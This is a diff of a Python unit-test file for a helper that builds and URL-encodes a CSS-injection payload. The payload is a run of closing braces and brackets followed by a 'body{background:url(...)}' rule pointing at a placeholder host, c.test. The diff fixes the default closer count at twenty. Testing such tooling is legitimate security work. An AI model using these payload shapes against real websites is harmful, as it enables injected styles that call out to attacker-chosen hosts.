@@ -62,26 +62,19 @@ def test_newline_variants_are_exactly_three():
 
 
 def test_exploit_payload_shapes():
-    p = build_exploit_payload("http://c.test/i/N", 3)
-    assert p == "}}}]]]body{background:url(http://c.test/i/N)}"
-    p1 = build_exploit_payload("http://c.test/i/N", 1)
-    assert p1 == "}]body{background:url(http://c.test/i/N)}"
-
-
-def test_exploit_payload_default_closer_count():
-    p = build_exploit_payload("http://c.test/x")
-    assert p == "}" * 20 + "]" * 20 + "body{background:url(http://c.test/x)}"
+    p = build_exploit_payload("http://c.test/i/N")
+    assert p == "}" * 20 + "]" * 20 + "body{background:url(http://c.test/i/N)}"
 
 
 def test_exploit_payload_rejects_relative_url():
     with pytest.raises(InvalidArgument):
-        build_exploit_payload("i/N", 3)
+        build_exploit_payload("i/N")
 
 
 def test_encode_exploit_is_url_safe():
-    p = build_exploit_payload("http://c.test/i/N", 2)
+    p = build_exploit_payload("http://c.test/i/N")
     encoded = encode_exploit(p, NewlineVariant.LF)
-    assert encoded.startswith("%0A%7D%7D%5D%5D")
+    assert encoded.startswith("%0A" + "%7D" * 20 + "%5D" * 20 + "body")
     assert "{" not in encoded and "}" not in encoded and "]" not in encoded
 
 
